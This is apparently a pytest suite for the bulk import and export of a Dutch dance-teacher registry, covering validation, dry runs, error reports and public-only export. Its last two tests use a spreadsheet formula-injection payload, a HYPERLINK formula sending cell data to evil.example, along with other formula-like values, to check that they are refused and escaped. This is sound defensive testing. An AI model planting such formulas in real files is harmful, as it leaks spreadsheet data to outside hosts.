"""Bulk import: every row checked first, a row-by-row report, all-or-nothing, idempotent."""

import io
from datetime import timedelta

from sqlalchemy import func, select

from accounts.models import Role
from certification.teachers import services
from certification.teachers.importer import import_file
from certification.teachers.models import CpdRecord, Employment, Qualification, Review, Teacher
from core.extensions import db
from tests.certification.teachers import factories
from tests.kit import log_in, make_user

GOOD = """\
first_name,last_name,email,genres,registration_number,school_kvk,works_with_minors,qualification,institution,\
qualified_on
Anna,de Boer,anna@example.nl,ballet;jazz,,{kvk},ja,hbo,Codarts,2015-06-30
Bram,Visser,BRAM@example.nl,Urban / hiphop,D-1234566,,nee,,,
Chloé,Dubois,chloe@example.fr,modern,,{kvk},,conservatory,CNSMD Lyon,01-07-2012
"""


def _count(model):
    return db.session.execute(select(func.count()).select_from(model)).scalar_one()


def test_a_good_file_is_written_and_a_second_import_adds_nothing(app, plan):
    school = factories.make_school()
    data = GOOD.format(kvk=school.kvk_number).encode()
    report = import_file(data, "docenten.csv", "teachers")
    assert report.ok and report.written and (report.created, report.updated, report.unchanged) == (3, 0, 0)
    bram = db.session.execute(select(Teacher).where(Teacher.email == "bram@example.nl")).scalar_one()
    assert bram.registration_number == "D-1234566" and bram.genres == ["urban"]
    assert _count(Employment) == 2 and _count(Qualification) == 2
    assert all(q.review is Review.approved for q in db.session.execute(select(Qualification)).scalars())
    again = import_file(data, "docenten.csv", "teachers")
    assert again.ok and (again.created, again.updated, again.unchanged) == (0, 0, 3)
    assert _count(Teacher) == 3 and _count(Employment) == 2 and _count(Qualification) == 2


def test_dutch_headers_semicolons_and_a_changed_name(plan):
    import_file(b"voornaam;achternaam;e-mail;genres\nDaan;Mol;daan@example.nl;tap\n", "nl.csv", "teachers")
    report = import_file(b"voornaam;achternaam;e-mail;genres\nDaan;Mol-Jansen;daan@example.nl;\"tap;ballet\"\n",
                         "nl.csv", "teachers")
    assert report.ok and (report.created, report.updated) == (0, 1)
    daan = db.session.execute(select(Teacher).where(Teacher.email == "daan@example.nl")).scalar_one()
    assert daan.last_name == "Mol-Jansen" and daan.genres == ["ballet", "tap"]


def test_a_bad_file_is_refused_row_by_row_and_nothing_is_written(plan):
    future = (services.today() + timedelta(days=3)).isoformat()
    bad = (
        "first_name,last_name,email,genres,registration_number,school_kvk,since\n"
        "Eva,Kok,eva@example.nl,ballet,D-1234566,,\n"           # row 2: fine
        ",Kok,geen-adres,ballet,,,\n"                           # row 3: no first name, bad e-mail
        "Finn,Mol,finn@example.nl,breakdance;ballet,,,\n"       # row 4: unknown genre
        "Gijs,Bos,gijs@example.nl,jazz,D-1234566,,\n"           # row 5: duplicate registration
        "Hana,Bos,hana@example.nl,jazz,D-1234567,,\n"           # row 6: wrong check digit
        "Ivo,Bos,EVA@example.nl,jazz,,99999999,\n"              # row 7: duplicate e-mail, unknown school
        f"Jet,Bos,jet@example.nl,jazz,,,{future}\n"             # row 8: date in the future
    ).encode()
    report = import_file(bad, "fout.csv", "teachers")
    found = {(problem.row, problem.column) for problem in report.problems}
    assert found == {(3, "first_name"), (3, "email"), (4, "genres"), (5, "registration_number"),
                     (6, "registration_number"), (7, "email"), (7, "school_kvk"), (8, "since")}
    duplicate = next(p for p in report.problems if p.row == 5)
    assert "rij 2" in duplicate.message
    assert not report.written and _count(Teacher) == 0
    csv = report.as_csv().decode("utf-8-sig")
    assert csv.splitlines()[0] == "rij,kolom,probleem" and "breakdance" not in csv.splitlines()[0]


def test_missing_columns_are_reported_on_row_1(plan):
    report = import_file(b"naam,email\nAnna,anna@example.nl\n", "x.csv", "teachers")
    assert {(p.row, p.column) for p in report.problems} == {(1, "first_name"), (1, "last_name"), (1, "genres")}


def test_a_dry_run_checks_and_writes_nothing(plan):
    report = import_file(GOOD.format(kvk="").encode(), "x.csv", "teachers", dry_run=True)
    assert report.ok and report.created == 3 and not report.written and _count(Teacher) == 0


def test_xlsx_is_read_too(plan):
    import pandas as pd

    buffer = io.BytesIO()
    pd.DataFrame({"voornaam": ["Kees"], "achternaam": ["Dijk"], "e-mail": ["kees@example.nl"],
                  "genres": ["folk"]}).to_excel(buffer, index=False)
    report = import_file(buffer.getvalue(), "docenten.xlsx", "teachers")
    assert report.ok and report.created == 1


def test_unreadable_files_get_a_message(plan):
    import pytest

    from certification.teachers.errors import RegistryError

    for data in (b"", b"\xff\xfe\x00b\x00a\x00d", b"PK\x03\x04 not really a spreadsheet",
                 b"voornaam;achternaam;e-mail;genres\nA;B;a@b.nl;tap;ballet\n"):
        with pytest.raises(RegistryError):
            import_file(data, "x.csv", "teachers")


def test_cpd_records_are_imported_approved_and_once(plan, code):
    teacher = factories.make_teacher()
    day = (services.today() - timedelta(days=20)).isoformat()
    data = (f"registratienummer,titel,aanbieder,punten,categorie,datum\n"
            f"{teacher.registration_number},Sociale veiligheid in de les,CVSN,8,social_safety,{day}\n"
            f"{teacher.registration_number},Didactiek,Codarts,6,Pedagogiek en didactiek,{day}\n").encode()
    assert import_file(data, "cpd.csv", "cpd").created == 2
    assert import_file(data, "cpd.csv", "cpd").unchanged == 2
    records = db.session.execute(select(CpdRecord)).scalars().all()
    assert len(records) == 2 and {r.category for r in records} == {"social_safety", "pedagogy"}
    assert all(r.review is Review.approved for r in records)
    bad = b"registration_number,title,points,category,completed_on\nD-1234566,X,500,dans,2099-01-01\n"
    report = import_file(bad, "cpd.csv", "cpd")
    assert {p.column for p in report.problems} == {"registration_number", "points", "category", "completed_on"}


def test_the_import_page_offers_the_report_for_download(app, client, plan):
    log_in(client, make_user(roles=(Role.admin,)))
    response = client.post("/beheer/docenten/import", data={
        "kind": "teachers", "file": (io.BytesIO(b"first_name,last_name,email,genres\nA,B,fout,ballet\n"), "x.csv")},
        content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and "geen geldig e-mailadres" in page.lower()
    link = page.split('href="/beheer/docenten/import/rapport/')[1].split('"')[0]
    report = client.get(f"/beheer/docenten/import/rapport/{link}")
    assert report.status_code == 200 and "2,email" in report.get_data(as_text=True)
    ok = client.post("/beheer/docenten/import", data={
        "kind": "teachers", "file": (io.BytesIO(b"first_name,last_name,email,genres\nA,B,a@b.nl,ballet\n"), "x.csv")},
        content_type="multipart/form-data")
    assert ok.status_code == 200 and _count(Teacher) == 1
    assert client.post("/beheer/docenten/import", data={"kind": "teachers"}).status_code == 400


def test_the_cli_imports_with_a_dry_run_first(app, runner, plan, tmp_path):
    path = tmp_path / "docenten.csv"
    path.write_text(GOOD.format(kvk=""))
    result = runner.invoke(args=["registry", "import", str(path), "--kind", "teachers", "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "would create 3" in result.output and _count(Teacher) == 0
    result = runner.invoke(args=["registry", "import", str(path), "--kind", "teachers"])
    assert result.exit_code == 0 and _count(Teacher) == 3
    bad = tmp_path / "fout.csv"
    bad.write_text("first_name,last_name,email,genres\nA,B,fout,ballet\n")
    result = runner.invoke(args=["registry", "import", str(bad), "--kind", "teachers"])
    assert result.exit_code == 1 and "row 2, email" in result.output
    assert (tmp_path / "fout.problems.csv").exists()


def test_export_has_only_public_fields(app, client, code, tmp_path, runner):
    teacher = factories.make_teacher(phone="0612345678")
    factories.complete(teacher)
    factories.make_teacher(first_name="Nog", last_name="Niet")  # pending: not in the export
    log_in(client, make_user(roles=(Role.admin,)))
    csv = client.get("/beheer/docenten/export.csv").get_data(as_text=True)
    assert teacher.registration_number in csv and "Niet" not in csv
    assert teacher.email not in csv and "0612345678" not in csv
    assert client.get("/beheer/docenten/export.xlsx").data[:2] == b"PK"
    result = runner.invoke(args=["registry", "export", str(tmp_path / "register.xlsx")])
    assert result.exit_code == 0 and (tmp_path / "register.xlsx").exists()


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_names_that_start_like_a_formula_are_refused_row_by_row(plan):
    data = ('first_name,last_name,email,genres,role\n'
            '"' + EVIL.replace('"', '""') + '",Kok,eva@example.nl,ballet,\n'
            'Finn,@SUM(A1),finn@example.nl,ballet,\n'
            'Gijs,Bos,gijs@example.nl,jazz,+31 docent\n'
            'Hana,Bos-Kok,hana@example.nl,jazz,\n').encode()
    report = import_file(data, "docenten.csv", "teachers")
    assert not report.written
    assert [(p.row, p.column) for p in report.problems] == [(2, "first_name"), (3, "last_name"), (4, "role")]
    assert "formule" in report.problems[0].message
    assert b"formule" in report.as_csv()
    cpd = import_file(b"email,title,provider,points,category,completed_on\n"
                      b"x@example.nl,-Workshop,Codarts,3,didactics,2024-01-01\n", "cpd.csv", "cpd")
    assert ("title" in [p.column for p in cpd.problems]) and not cpd.written


def test_the_export_writes_a_formula_name_as_text(app, client, code):
    from openpyxl import load_workbook

    teacher = factories.make_teacher(first_name="Anna")
    factories.complete(teacher)
    teacher.first_name = EVIL  # written before names were checked, or by a future path that forgets to check
    db.session.commit()
    log_in(client, make_user(roles=(Role.admin,)))
    csv = client.get("/beheer/docenten/export.csv").get_data(as_text=True)
    line = next(row for row in csv.splitlines() if teacher.registration_number in row)
    assert ",\"'=HYPERLINK(" in line
    sheet = load_workbook(io.BytesIO(client.get("/beheer/docenten/export.xlsx").data)).active
    names = [cell for cell in sheet["B"][1:]]
    assert [cell.data_type for cell in names] == ["s"]
    assert names[0].value.startswith("'=HYPERLINK(")
